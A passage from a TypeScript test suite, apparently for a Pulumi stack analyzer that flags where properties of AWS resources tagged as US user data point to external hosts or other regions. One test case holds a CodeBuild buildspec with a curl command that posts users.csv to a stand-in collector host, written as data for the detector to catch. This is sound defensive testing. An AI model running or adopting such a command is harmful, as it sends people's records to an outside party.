            resource("aws:apigateway/model:Model", "model", {
                contentType: "application/json",
                schema: JSON.stringify({ $schema: "http://json-schema.org/draft-07/schema#", type: "object" }),
            }),
        ];
        for (const r of own) expect([r.name, paths(r)]).toEqual([r.name, r.type === "aws:route53/record:Record" ? ["records[0]"] : []]);
        // A mapping attaches an API to a name: it is read, as is the same host in a function's environment.
        const mapping = resource("aws:apigateway/basePathMapping:BasePathMapping", "mapping", { domainName: `api.${site}`, restApi: "abc123" }, virginia, {
            dependencies: [{ urn: table.urn }],
        });
        expect(paths(mapping)).toEqual(["domainName"]);
        const fnWithHost = resource("aws:lambda/function:Function", "fn", { environment: { variables: { SITE: site } } }, virginia, {
            dependencies: [{ urn: table.urn }],
        });
        expect(paths(fnWithHost)).toEqual(["environment.variables.SITE"]);
    });

    // A wrong entry in those tables (a property that is where the resource sends, after all) meets values of
    // another shape there: they are read as anywhere else, a false alarm rather than a silent pass.
    test.each([
        ["a URL as a certificate's name", "aws:acm/certificate:Certificate", { domainName: "https://collector.partner.example/upload" }, ["domainName"]],
        ["an email address as an alias", "aws:cloudfront/distribution:Distribution", { aliases: ["ops@partner.example"] }, ["aliases[0]"]],
        [
            "an ARN as a host condition",
            "aws:lb/listenerRule:ListenerRule",
            { conditions: [{ hostHeader: { values: ["arn:aws:s3:::partner-drop"] } }] },
            ["conditions[0].hostHeader.values[0]"],
        ],
        [
            "a policy document as a model's schema",
            "aws:apigateway/model:Model",
            { schema: JSON.stringify({ Statement: [{ Effect: "Allow", Resource: "https://collector.partner.example/x" }] }) },
            ["schema<json>Statement[0].Resource"],
        ],
        [
            "JSON as a GraphQL schema",
            "aws:appsync/graphQLApi:GraphQLApi",
            { schema: JSON.stringify({ sink: "https://collector.partner.example" }) },
            ["schema<json>sink"],
        ],
        ["a URL as a permission's caller", "aws:lambda/permission:Permission", { sourceArn: "https://collector.partner.example/hook" }, ["sourceArn"]],
        [
            "a permission's callers",
            "aws:lambda/permission:Permission",
            { principal: "sns.amazonaws.com", sourceArn: "arn:aws:sns:us-east-1:999988887777:partner-topic", sourceAccount: "999988887777" },
            [],
        ],
        [
            "an Alexa skill as a caller",
            "aws:lambda/permission:Permission",
            { principal: "alexa-appkit.amazon.com", eventSourceToken: "amzn1.ask.skill.0a1b2c3d" },
            [],
        ],
        ["a URL as a function's package bucket", "aws:lambda/function:Function", { s3Bucket: "https://collector.partner.example/upload" }, ["s3Bucket"]],
        [
            "a build step that posts to a host, in a project's source",
            "aws:codebuild/project:Project",
            { source: { type: "NO_SOURCE", buildspec: "phases:\n  build:\n    commands:\n      - curl -d @users.csv https://collector.partner.example/in\n" } },
            ["source.buildspec"],
        ],
        // A Git host is not AWS's or OCI's: building from it is read as sending there, until approved as an external destination.
        [
            "a project building from a Git host",
            "aws:codebuild/project:Project",
            { source: { type: "GITHUB", location: "https://github.com/org/app.git" } },
            ["source.location"],
        ],
        ["a phone number as a mail recipient", "aws:ses/receiptRule:ReceiptRule", { recipients: ["+15555550100"] }, ["recipients[0]"]],
        [
            "code kept by AWS, in another region or on a registry",
            "aws:lambda/function:Function",
            {
                imageUri: "123456789012.dkr.ecr.ap-southeast-1.amazonaws.com/app:1",
                layers: ["arn:aws:lambda:ap-southeast-1:123456789012:layer:tools:3"],
                s3Bucket: "https://builds.s3.ap-southeast-1.amazonaws.com",
            },
            [],
        ],
        ["a script in S3", "aws:glue/job:Job", { command: { scriptLocation: "s3://scripts-sg/job.py" } }, []],
        [
            "an image on another registry",
            "aws:ecs/taskDefinition:TaskDefinition",
            { containerDefinitions: JSON.stringify([{ name: "app", image: "ghcr.io/org/app:1.2" }]) },
            [],
        ],
        ["addresses a receipt rule takes mail for", "aws:ses/receiptRule:ReceiptRule", { recipients: ["orders@example.com", "example.org"] }, []],
        [
            "a URL as an alarm's dimension",
            "aws:cloudwatch/metricAlarm:MetricAlarm",
            { dimensions: { Endpoint: "https://collector.partner.example/in" } },
            ["dimensions.Endpoint"],
        ],
        [
            "a host as a scaling policy's metric",
            "aws:autoscaling/policy:Policy",
            { targetTrackingConfiguration: { customizedMetricSpecification: { namespace: "collector.partner.example" } } },
            ["targetTrackingConfiguration.customizedMetricSpecification.namespace"],
        ],
        [
            "what names a metric",
            "aws:cloudwatch/metricAlarm:MetricAlarm",
            {
                dimensions: { LoadBalancer: "app/front/50dc6c495c0c9188", TableArn: "arn:aws:dynamodb:ap-southeast-1:123456789012:table/t" },
                namespace: "AWS/ApplicationELB",
            },
            [],
        ],
        [
            "a URL as a transfer location's bucket",
            "aws:datasync/locationObjectStorage:LocationObjectStorage",
            { bucketName: "https://collector.partner.example/drop", serverHostname: "storage.us-east-1.example.internal" },
            ["bucketName", "serverHostname"],
        ],
        [
            "a transfer location's bucket",
            "aws:datasync/locationObjectStorage:LocationObjectStorage",
            { bucketName: "users-archive", serverHostname: "storage.us-east-1.example.internal" },
            ["serverHostname"],
        ],
        [
            "a GraphQL schema's own comment link",
            "aws:appsync/graphQLApi:GraphQLApi",
            { schema: "# https://spec.graphql.org\ntype Query {\n  user: String\n}\n" },
            [],
        ],
    ])("%s: read only where the role's shape does not hold", (_label, type, props, expected) => {
        const r = resource(type, "own", { ...props, tags: { "data-class": "us-user-data" } });
        expect(paths(r)).toEqual(expected);
    });

    test.each([
        ["a layer published in another region", "aws:lambda/function:Function", { layers: ["arn:aws:lambda:eu-west-1:111122223333:layer:shared:3"] }, []],
        [
            "a package in a bucket ARN of another region's access point",
            "aws:lambda/function:Function",
            { s3Bucket: "arn:aws:s3:eu-west-1:111122223333:accesspoint/code" },
            [],
        ],
        ["an image in another region's ECR", "aws:lambda/function:Function", { imageUri: "111122223333.dkr.ecr.eu-west-1.amazonaws.com/app:1" }, []],
        ["a caller of another region", "aws:lambda/permission:Permission", { sourceArn: "arn:aws:sns:eu-west-1:111122223333:alerts" }, []],
        ["a metric of a queue in another region", "aws:cloudwatch/metricAlarm:MetricAlarm", { dimensions: { QueueName: "jobs-eu-west-1" } }, []],
        // Another shape than the role's, or a property no role covers: the region is a place data may go to.
        [
            "a layer given as a partner's URL naming a region",
            "aws:lambda/function:Function",
            { layers: ["https://layers.example.com/eu-west-1/shared.zip"] },
            ["layers[0]"],
        ],
        [
            "a region in the function's environment",
            "aws:lambda/function:Function",
            { environment: { variables: { TARGET: "eu-west-1" } } },
            ["environment.variables.TARGET"],
        ],
    ])("%s: a region written there is a copy only where no property role covers it", (_label, type, props, expected) => {
        const r = resource(type, "own", { ...props, tags: { "data-class": "us-user-data" } });
        const literals = buildStackModel([r]).flows.filter((f) => f.kind === "region-literal" && f.carrier === r);
        expect(literals.map((f) => f.property)).toEqual(expected);
    });

    test("a provider-assigned address (as AnalyzeStack sends outputs on an update) names its resource, in any case and as a URL's host", () => {
        const us = { "data-class": "us-user-data" };
        const lb = resource("aws:lb/loadBalancer:LoadBalancer", "front", { dnsName: "front-123.us-east-1.elb.amazonaws.com", tags: us }, virginia, {
            dependencies: [{ urn: table.urn }],
        });
        const sgLb = resource("aws:lb/loadBalancer:LoadBalancer", "front-sg", { dnsName: "front-456.ap-southeast-1.elb.amazonaws.com" }, singapore);
        const caller = resource("aws:lambda/function:Function", "caller", {}, virginia, { dependencies: [{ urn: table.urn }] });
        // Addresses in a list or a map: a cache's nodes, an AppSync API's URLs.
        const cache = resource("aws:elasticache/cluster:Cluster", "sessions", {
            cacheNodes: [{ id: "0001", address: "sessions.abc123.0001.use1.cache.amazonaws.com", port: 6379 }],
        });
        const graphql = resource("aws:appsync/graphQLApi:GraphQLApi", "graph", {
            uris: { GRAPHQL: "https://abcdefghij.appsync-api.us-east-1.amazonaws.com/graphql" },
        });
        const index = new ResourceIndex([table, lb, sgLb, caller, cache, graphql]);
        const placed = (host: string) => {
            const out: NamedPlace[] = [];
            new Destinations(index).inString(host, "BACKEND", () => "environment.variables.BACKEND", caller, out);
            return out.map((p) => (p.place.kind === "resources" ? p.place.resources.map((r) => r.name) : p.place.kind));
        };
        expect(placed("http://FRONT-123.us-east-1.elb.amazonaws.com:80/orders")).toEqual([["front"]]);
        expect(placed("front-123.us-east-1.elb.amazonaws.com")).toEqual([["front"]]);
        expect(placed("front-456.ap-southeast-1.elb.amazonaws.com")).toEqual([["front-sg"]]);
        // A cache host names a region code, not a region.
        expect(placed("sessions.abc123.0001.use1.cache.amazonaws.com:6379")).toEqual([["sessions"]]);
        expect(placed("https://abcdefghij.appsync-api.us-east-1.amazonaws.com/graphql")).toEqual([["graph"]]);
        expect(placed("other.abc123.0001.use1.cache.amazonaws.com")).toEqual(["unknown"]);
        // A host no resource of the stack is assigned is outside it; the load balancer's own address is not where it sends.
        expect(placed("front-789.us-east-1.elb.amazonaws.com")).toEqual(["external"]);
        expect(buildStackModel([table, lb]).destinations.filter((d) => d.carrier === lb)).toEqual([]);
    });

    test("metric dimensions name what an alarm watches, not data it takes", () => {
        const alarm = resource("aws:cloudwatch/metricAlarm:MetricAlarm", "alarm", { dimensions: { TableName: "users-table" } });
        expect(buildStackModel([table, alarm]).facts.get(alarm.urn)?.effectiveClass).toBeUndefined();
    });

    test("a value there of another shape than a metric's name takes data from what it names", () => {
        const byName = resource("aws:cloudwatch/metricAlarm:MetricAlarm", "by-name", { dimensions: { QueueName: "jobs" } });
        const byUrl = resource("aws:cloudwatch/metricAlarm:MetricAlarm", "by-url", {
            dimensions: { Queue: "https://sqs.us-east-1.amazonaws.com/111122223333/jobs" },
        });
        const model = buildStackModel([queue, byName, byUrl]);
        expect(model.facts.get(byName.urn)?.effectiveClass).toBeUndefined();
        expect(model.facts.get(byUrl.urn)?.effectiveClass).toBe("us-user-data");
    });
});
